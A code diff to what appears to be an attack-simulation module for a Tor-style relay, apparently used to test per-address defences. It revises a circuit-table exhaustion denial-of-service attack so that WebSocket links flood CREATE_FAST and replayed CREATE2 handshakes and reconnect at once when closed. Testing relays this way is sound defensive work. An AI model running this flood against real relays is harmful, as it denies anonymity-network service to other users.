@@ -8,10 +8,12 @@ import { Tally, failureLabel } from '../outcomes.ts';
 import { bridgeTarget, sleep, webSocketChannel } from '../peer.ts';
 
 /**
- * Attack 3, circuit-table exhaustion: many WebSocket links from one address, each sending CREATE_FAST
- * and CREATE2 (one ntor onionskin, replayed: the relay does the full server handshake every time,
- * the attacker none) as fast as the relay answers, keeping every circuit it gets. Without
- * per-address defences the relay's table fills and the next comer gets RESOURCELIMIT.
+ * Attack 3, circuit-table exhaustion: many WebSocket links from one address, half of them sending
+ * CREATE_FAST, half CREATE2 (one ntor onionskin, replayed: the relay does the full server handshake
+ * every time, the attacker none), as fast as the relay answers, keeping every circuit it gets. A
+ * link the relay closes is opened again at once (a refused connection is retried after 50 ms), as
+ * an attacker who wants the table would. Without per-address defences the relay's table fills and
+ * the next comer gets RESOURCELIMIT.
  */
 
 export interface CircuitExhaustionReport extends AttackReport {
@@ -31,15 +33,23 @@ export function circuitExhaustion(opts: { connections?: number; outstanding?: nu
     const window = opts.outstanding ?? 64;
     let sent = 0;
 
-    const flood = async (index: number): Promise<void> => {
-      let channel: Channel;
-      try {
-        channel = await webSocketChannel(relay, address, 10_000);
-        links.add('open');
-      } catch (e) {
-        links.add(failureLabel(e));
-        return;
+    // One slot: a link, opened again whenever the relay closes it, until the attack ends.
+    const slot = async (index: number): Promise<void> => {
+      while (!signal.aborted && sent < maxCreates) {
+        let channel: Channel;
+        try {
+          channel = await webSocketChannel(relay, address, 10_000);
+          links.add('open');
+        } catch (e) {
+          links.add(`connect failed: ${failureLabel(e)}`);
+          await sleep(50);
+          continue;
+        }
+        await flood(index, channel);
       }
+    };
+
+    const flood = async (index: number, channel: Channel): Promise<void> => {
       let outstanding = 0;
       let wake: (() => void) | undefined;
       const answered = () => { outstanding--; wake?.(); };
@@ -62,7 +72,7 @@ export function circuitExhaustion(opts: { connections?: number; outstanding?: nu
             onChannelClosed: () => {},
           };
           id = channel.registerCircuit(endpoint);
-          const fast = (sent + index) % 2 === 0;
+          const fast = index % 2 === 0;
           channel.send(fast
             ? { circId: id, command: ChanCmd.CREATE_FAST, body: new CreateFast(randomBytes(20)).encode() }
             : { circId: id, command: ChanCmd.CREATE2, body: new Create2(HandshakeType.NTOR, onionskin).encode() });
@@ -76,7 +86,7 @@ export function circuitExhaustion(opts: { connections?: number; outstanding?: nu
       channel.close();
     };
 
-    await Promise.all(Array.from({ length: opts.connections ?? 40 }, (_, i) => flood(i)));
+    await Promise.all(Array.from({ length: opts.connections ?? 40 }, (_, i) => slot(i)));
     return {
       summary: `${opts.connections ?? 40} WebSocket links from ${address}, ${sent} CREATE_FAST/CREATE2 sent: ${answers}; links: ${links}`,
       answers,
